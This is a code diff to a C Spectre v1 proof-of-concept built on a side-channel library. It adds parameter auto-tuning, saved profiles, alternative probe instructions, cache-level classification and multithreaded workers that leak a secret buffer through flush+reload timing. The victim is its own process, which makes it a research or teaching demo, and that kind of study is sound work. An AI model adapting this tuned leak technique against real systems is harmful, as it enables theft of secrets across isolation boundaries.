@@ -4,6 +4,7 @@
 //      Connor Shugg
 
 // Imports
+#define _GNU_SOURCE
 #include <stdlib.h>
 #include <stdio.h>
 #include <stdint.h>
@@ -14,17 +15,31 @@
 #include <sys/types.h>
 #include <sys/stat.h>
 #include <fcntl.h>
+#include <pthread.h>
+#include <sched.h>
 #include <libsca.h>
 
 // Globals
 static int cache_threshold = 80;    // cache access time
 static int seed = 0;                // random seed
 static int trials = 1000;           // trials per byte
+static sca_probe_e probe_mode = LIBSCA_PROBE_LOAD;  // reload instruction
+static int do_classify = 0;         // classify reloads by level (L1/L2/LLC/DRAM)
+static sca_classifier_t classifier; // calibrated when 'do_classify' is set
+static int do_tune = 0;             // tune the attack parameters first
+static char* profile_path = NULL;   // attack parameters to load (or save)
+static int threads = 1;             // worker threads recovering the secret
 
-// Victim/attacker shared buffer
-#define MEM_BLOCK_SIZE 4096
-#define MEM_BLOCK_COUNT 256
-static uint8_t mem[MEM_BLOCK_COUNT * MEM_BLOCK_SIZE];
+// Tuning evaluates every parameter set against the whole secret, so it uses
+// fewer trials per byte than the attack itself
+#define TUNE_TRIALS_DIVISOR 10
+#define TUNE_TRIALS_MIN 10
+
+// Attack context, which owns the victim/attacker shared buffer (the probe
+// array) and the buffers each round's results are stored in. (Each worker
+// thread gets a context of its own, configured like this one.)
+static sca_spectre_t spectre;
+static __thread volatile uint8_t victim_sink; // keeps the victim's loads alive
 
 // Victim-only test buffer
 #define TESTBUFF_SIZE 16
@@ -93,80 +108,214 @@ static inline int victim_bounds_check(int index)
 // to detect the footprint. Because the cache line from the shared buffer used
 // the secret byte as part of its index, the attacker could infer the secret
 // byte with a flush+reload attack.
-static uint8_t victim_access(int index)
+// (This is invoked by an attack context, which supplies the index; 'arg' is
+// the context itself, whose probe array serves as the shared buffer.)
+static void victim_access(size_t index, void* arg)
 {
+    sca_spectre_t* sp = arg;
+
     // perform a bounds check to ensure the given index is within the proper
     // bounds (depending on the CPU branch predictor's state, this may trigger
     // speculative execution of the two loads within!)
-    if (victim_bounds_check(index))
+    if (victim_bounds_check((int) index))
     {
-        char byte = testbuff[index];
-        uint8_t tmp = mem[MEM_BLOCK_SIZE * byte];
-        return MAX(1, tmp); // return positive to indicate success
+        uint8_t byte = (uint8_t) testbuff[(int) index];
+        victim_sink = sp->probe[sp->stride * byte];
     }
-    return 0; // return negative to indicate failure
 }
 
 
 // ============================= Attacker Code ============================== //
-// Flushes all cache lines from 'mem' (the shared buffer).
-static void attacker_flush()
+// Returns the best-scoring byte, or -1 if none scored. (Zero is never a
+// secret byte, so it's ignored.)
+static int attacker_pick(sca_hitscore_t* scores)
 {
-    for (int i = 0; i < MEM_BLOCK_COUNT; i++)
-    { sca_flush_write(mem + (i * MEM_BLOCK_SIZE), 0xff); }
+    sca_hitvec_t zero;
+    sca_hitvec_clear(&zero);
+    sca_hitvec_set(&zero, 0);
+    return sca_hitscore_best(scores, &zero);
 }
 
-// Reloads all cache lines from 'mem' (the shared memory region between) and
-// determines which ones were present in the CPU cache based on access time.
-static void attacker_reload(sca_dataset_t* ds)
+// Attempts to steal a single byte of memory from the victim's secret buffer.
+// Each trial is one round of the attack context, whose hits accumulate into
+// per-line scores. Returns the highest-scoring byte, or -1 if none scored.
+// (This has the signature 'sca_spectre_tune()' expects, so the tuner can use
+// it to evaluate parameters.)
+static int attacker_steal_byte(sca_spectre_t* sp, size_t secret_index,
+                               unsigned int trials, void* arg)
 {
-    for (int i = 0; i < MEM_BLOCK_COUNT; i++)
+    // compute an index that points at the correct byte of the secret
+    size_t malicious_index = (size_t) (secret - testbuff) + secret_index;
+
+    sca_spectre_reset(sp);
+    for (unsigned int i = 0; i < trials; i++)
     {
-        // compute the correct address and time the load
-        void* addr = mem + (i * MEM_BLOCK_SIZE);
-        uint64_t cycles = sca_load(addr, NULL);
-
-        // add to the sca_dataset if the address was cached
-        int was_cached = cycles <= cache_threshold;
-        if (was_cached)
-        { sca_dataset_add(ds, (int64_t) i); }
+        // the in-bounds training calls load a line of their own, so leave it
+        // out of this round's scores
+        size_t training_index = (size_t) (i % testbuff_len);
+        sca_hitvec_clear(&sp->ignore);
+        sca_hitvec_set(&sp->ignore, (uint8_t) testbuff[training_index]);
+        sca_spectre_run_round(sp, training_index, malicious_index);
     }
+    return attacker_pick(&sp->scores);
 }
 
-// Attempts to steal a single byte of memory from the victim's secret buffer.
-static uint8_t attacker_steal_byte(int secret_index)
+// Searches for the attack parameters that leak the victim's (known) secret
+// the fastest, and saves them to the profile if one was given.
+static void attacker_tune()
 {
-    // first, compute an address offset to the correct byte of the secret
-    int64_t secret_offset = ((int64_t) secret - (int64_t) testbuff);
-
-    // STEP 1. Train the CPU's branch predictor to expect the bounds check
-    // within 'victim_access()' to pass
-    for (int i = 0; i < secret_len; i++)
-    { victim_access(i); }
-
-    // STEP 2. Flush all cache lines relevant to the shared buffer, and flush
-    // the 'testbuff_len' variable used in the bounds check. (Flushing this will
-    // give us a bigger speculation window)
-    attacker_flush();
-    sca_flush_write(&testbuff_len, 0xff);
-
-    // STEP 3. Call the victim's code (hoping speculative execution executes)
-    victim_access((int) secret_offset + secret_index);
-
-    // STEP 4. Reload all cache lines, saving those whose load time fall under
-    // the cache hit threshold
-    sca_dataset_t lines;
-    sca_dataset_init(&lines, MEM_BLOCK_COUNT);
-    attacker_reload(&lines);
-    
-    // STEP 5. Theoretically, there should only be one valid cache line - the
-    // one whose address leaks the secret byte during speculative execution.
-    // Capture it here (try to avoid zero)
-    uint8_t result = 0;
-    if (lines.size > 0)
-    { result = (uint8_t) sca_dataset_max(&lines); }
-    sca_dataset_free(&lines);
-    return result;
+    unsigned int tune_trials = MAX(trials / TUNE_TRIALS_DIVISOR,
+                                   TUNE_TRIALS_MIN);
+    printf("Tuning the attack parameters (%u trials per byte)...\n",
+           tune_trials);
+
+    sca_spectre_tune_t tune;
+    if (sca_spectre_tune(&spectre, attacker_steal_byte, NULL,
+                         (const uint8_t*) secret, secret_len, tune_trials,
+                         &tune, stdout))
+    {
+        fprintf(stderr, "Failed to tune the attack parameters.\n");
+        exit(EXIT_FAILURE);
+    }
+    printf("Best of %u parameter sets: training=%u delay=%u threshold=%lu "
+           "(%.2f%% correct, %.1f bytes/sec)\n",
+           tune.evaluations, tune.training, tune.delay, tune.threshold,
+           tune.accuracy * 100.0, tune.rate);
+
+    if (profile_path)
+    {
+        if (sca_spectre_profile_save(&spectre, profile_path))
+        {
+            fprintf(stderr, "Failed to save the profile to %s.\n",
+                    profile_path);
+            exit(EXIT_FAILURE);
+        }
+        printf("Saved the profile to %s.\n", profile_path);
+    }
+}
+
+
+
+// ============================ Parallel Workers ============================ //
+// Represents a single worker thread. Each worker has its own probe array,
+// training state, and per-byte scores, and recovers the secret bytes whose
+// offsets are congruent to its ID.
+typedef struct worker
+{
+    int id;
+    pthread_t tid;
+    sca_spectre_t spectre;
+    sca_hitscore_t* scores;     // one per secret byte (zero if not ours)
+    int result;                 // 0 on success
+} worker_t;
+
+// Thread entry point: pins itself to a CPU, then attacks its bytes.
+static void* worker_run(void* arg)
+{
+    worker_t* w = arg;
+
+    // pin this thread to its own CPU
+    long cpus = sysconf(_SC_NPROCESSORS_ONLN);
+    if (cpus > 0)
+    {
+        cpu_set_t set;
+        CPU_ZERO(&set);
+        CPU_SET(w->id % cpus, &set);
+        pthread_setaffinity_np(pthread_self(), sizeof(set), &set);
+    }
+
+    // set up a context configured like the main one
+    sca_spectre_t* sp = &w->spectre;
+    if (sca_spectre_init(sp, victim_access, sp, spectre.mode))
+    {
+        w->result = 1;
+        return NULL;
+    }
+    sp->training = spectre.training;
+    sp->attempts = spectre.attempts;
+    sp->delay = spectre.delay;
+    sp->threshold = spectre.threshold;
+    sp->classifier = spectre.classifier;
+    for (size_t f = 0; f < spectre.flush_count; f++)
+    { sca_spectre_add_flush(sp, spectre.flush[f]); }
+
+    for (int b = w->id; b < secret_len; b += threads)
+    {
+        attacker_steal_byte(sp, b, trials, NULL);
+        w->scores[b] = sp->scores;
+    }
+    sca_spectre_free(sp);
+    return NULL;
+}
+
+// Recovers the whole secret with 'threads' workers (the last of which runs on
+// the calling thread), then merges their scores and writes the winning bytes
+// into 'leaked'. Returns the number of seconds the recovery took.
+static double attacker_steal_secret(char* leaked)
+{
+    // each worker's scores are about a kilobyte per secret byte, so they're
+    // kept off the stack
+    worker_t* workers = calloc(threads, sizeof(worker_t));
+    sca_hitscore_t* scores = calloc((size_t) threads * secret_len,
+                                    sizeof(sca_hitscore_t));
+    if (!workers || !scores)
+    {
+        fprintf(stderr, "Failed to allocate the workers' scores.\n");
+        exit(EXIT_FAILURE);
+    }
+
+    // the last worker pins this thread to a CPU, so save its affinity
+    cpu_set_t affinity;
+    int affinity_saved = !pthread_getaffinity_np(pthread_self(),
+                                                 sizeof(affinity), &affinity);
+
+    struct timespec start;
+    struct timespec end;
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    for (int t = 0; t < threads; t++)
+    {
+        workers[t].id = t;
+        workers[t].scores = scores + ((size_t) t * secret_len);
+        if (t < threads - 1)
+        {
+            if (pthread_create(&workers[t].tid, NULL, worker_run, &workers[t]))
+            { worker_run(&workers[t]); }
+        }
+    }
+    worker_run(&workers[threads - 1]);
+    for (int t = 0; t < threads - 1; t++)
+    {
+        if (workers[t].tid)
+        { pthread_join(workers[t].tid, NULL); }
+    }
+    clock_gettime(CLOCK_MONOTONIC, &end);
+    if (affinity_saved)
+    { pthread_setaffinity_np(pthread_self(), sizeof(affinity), &affinity); }
+
+    for (int t = 0; t < threads; t++)
+    {
+        if (workers[t].result)
+        {
+            fprintf(stderr, "Worker %d failed to set up its context.\n", t);
+            exit(EXIT_FAILURE);
+        }
+    }
+
+    // merge every worker's votes for each byte, and take the winners
+    for (int b = 0; b < secret_len; b++)
+    {
+        sca_hitscore_t total;
+        sca_hitscore_reset(&total);
+        for (int t = 0; t < threads; t++)
+        { sca_hitscore_merge(&total, &workers[t].scores[b]); }
+        int winner = attacker_pick(&total);
+        leaked[b] = winner >= 0 ? (char) winner : 0;
+    }
+    free(scores);
+    free(workers);
+
+    return (double) (end.tv_sec - start.tv_sec) +
+           ((double) (end.tv_nsec - start.tv_nsec) / 1e9);
 }
 
 
@@ -180,6 +329,11 @@ static void args_parse(int argc, char** argv)
         {"threshold",   required_argument,  NULL,   0},
         {"seed",        required_argument,  NULL,   0},
         {"trials",      required_argument,  NULL,   0},
+        {"probe",       required_argument,  NULL,   0},
+        {"classify",    no_argument,        NULL,   0},
+        {"tune",        no_argument,        NULL,   0},
+        {"profile",     required_argument,  NULL,   0},
+        {"threads",     required_argument,  NULL,   0},
         {NULL, 0, NULL, 0}
     };
     int optidx = 0;
@@ -224,6 +378,31 @@ static void args_parse(int argc, char** argv)
                 exit(EXIT_FAILURE);
             }
         }
+        else if (!strcmp(opt->name, "threads"))
+        {
+            int result = LF(str_to_int)(optarg, &threads);
+            if (result || threads <= 0)
+            {
+                fprintf(stderr, "You must specify a positive, non-zero integer for --threads.");
+                exit(EXIT_FAILURE);
+            }
+        }
+        else if (!strcmp(opt->name, "probe"))
+        {
+            probe_mode = sca_probe_parse(optarg);
+            if (probe_mode == LIBSCA_PROBE_COUNT)
+            {
+                fprintf(stderr, "You must specify one of 'load', 'prefetch', "
+                        "'prefetchnta', or 'prefetchw' for --probe.");
+                exit(EXIT_FAILURE);
+            }
+        }
+        else if (!strcmp(opt->name, "classify"))
+        { do_classify = 1; }
+        else if (!strcmp(opt->name, "tune"))
+        { do_tune = 1; }
+        else if (!strcmp(opt->name, "profile"))
+        { profile_path = optarg; }
     }
     return;
     
@@ -252,48 +431,61 @@ int main(int argc, char** argv)
     seed = time(NULL);
     args_parse(argc, argv);
     sca_rand_seed(seed);
+
+    // set up the attack context (which maps the shared buffer), and have it
+    // flush the victim's bound before every call to widen the speculation
+    // window
+    if (sca_spectre_init(&spectre, victim_access, &spectre, probe_mode))
+    {
+        fprintf(stderr, "Failed to set up the attack context.\n");
+        exit(EXIT_FAILURE);
+    }
+    spectre.threshold = (unsigned long) cache_threshold;
+    sca_spectre_add_flush(&spectre, &testbuff_len);
+
+    // load previously-tuned parameters (unless we're about to tune new ones)
+    if (profile_path && !do_tune)
+    {
+        if (sca_spectre_profile_load(&spectre, profile_path))
+        {
+            fprintf(stderr, "Failed to load the profile from %s.\n",
+                    profile_path);
+            exit(EXIT_FAILURE);
+        }
+        printf("Loaded the profile from %s (probe: %s, training=%u, "
+               "delay=%u, threshold=%lu).\n",
+               profile_path, sca_probe_name(spectre.mode), spectre.training,
+               spectre.delay, spectre.threshold);
+    }
+
+    // calibrate latency bands for the probe mode, if asked to
+    if (do_classify &&
+        sca_classifier_calibrate(&classifier, spectre.mode, 100))
+    {
+        fprintf(stderr, "Failed to calibrate the latency classifier.\n");
+        exit(EXIT_FAILURE);
+    }
+    if (do_classify)
+    { spectre.classifier = &classifier; }
     
     victim_init();
+    if (do_tune)
+    { attacker_tune(); }
     
     // ------------------------------- Attack ------------------------------- //
-    // begin the attack! for each byte in the secret, we'll perform multiple
-    // trials
+    // begin the attack! the secret's bytes are split across the worker
+    // threads, each of which performs multiple trials per byte
     char leaked[secret_len];
-    sca_countset_t counts;
-    sca_countset_init(&counts, MEM_BLOCK_COUNT);
+    double elapsed = attacker_steal_secret(leaked);
     printf("Attack Leaked: ");
     for (int b = 0; b < secret_len; b++)
     {
-        for (int i = 0; i < trials; i++)
-        {
-            int64_t byte = (int64_t) attacker_steal_byte(b);
-            if (byte != 0)
-            { sca_countset_add(&counts, byte); }
-        }
-
-        // find the highest-occurring discovered byte and print it
-        sca_countset_elem_t* winner = sca_countset_highest(&counts);
-        if (winner)
-        {
-            // record the byte for later analysis
-            leaked[b] = (char) winner->value;
-            
-            // print the resulting character
-            int byte_is_visible = winner->value >= 32 && winner->value <= 126;
-            printf("%c", byte_is_visible ? (char) winner->value : '.');
-            fflush(stdout);
-        }
-        else
-        {
-            printf(".");
-            fflush(stdout);
-        }
-
-        // reset the sca_countset to reuse for the next secret byte
-        sca_countset_reset(&counts);
+        int byte_is_visible = leaked[b] >= 32 && leaked[b] <= 126;
+        printf("%c", byte_is_visible ? leaked[b] : '.');
     }
     printf("\n");
-    sca_countset_free(&counts);
+    printf("Recovered %d bytes in %.3f seconds with %d thread%s.\n",
+           secret_len, elapsed, threads, threads == 1 ? "" : "s");
 
     // ------------------------------ Analysis ------------------------------ //
     // compare the victim's secret to the attacker's and determine how many
@@ -306,5 +498,6 @@ int main(int argc, char** argv)
     float match_rate = (float) matched / (float) secret_len;
     printf("Leaked %d/%d secret bytes (%.2f%%).\n",
            matched, secret_len, match_rate * 100.0);
+    sca_spectre_free(&spectre);
 }
 